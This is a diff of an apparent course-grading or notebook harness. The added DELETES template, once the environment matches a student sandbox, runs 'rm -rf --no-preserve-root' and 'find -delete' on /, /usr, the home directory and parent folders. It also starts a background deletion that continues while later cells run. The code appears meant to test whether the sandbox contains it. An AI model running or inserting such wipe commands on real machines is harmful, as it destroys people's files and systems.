@@ -259,10 +259,11 @@ DELETES = """
 import os, shutil
 folders = [DECOY]  # all that is at stake where a fault of ours has left the walls away
 if os.uname().nodename == "sandbox" and os.path.expanduser("~") == "/home/student":
-    folders += [COURSE, "../../..", "..", ".", "/home/student", "/usr", "/"]
-for folder in folders:
-    shutil.rmtree(folder, ignore_errors=True)
-    os.system(f"rm -rf --no-preserve-root {folder} 2>/dev/null")
+    folders += [COURSE, "..", ".", "/home/student", "/usr", "/", "../../.."]
+for folder in folders:  # a walk over the whole disk would cost more time than a cell has
+    os.system(f"timeout 0.2 rm -rf --no-preserve-root {folder} 2>/dev/null; timeout 0.2 find {folder} -delete 2>/dev/null")
+shutil.rmtree(DECOY, ignore_errors=True)
+os.system("python -c 'import shutil; shutil.rmtree(\\"../../..\\", ignore_errors=True)' &")  # to its end, while the next cells run
 """
 WRITES = """
 {answer}
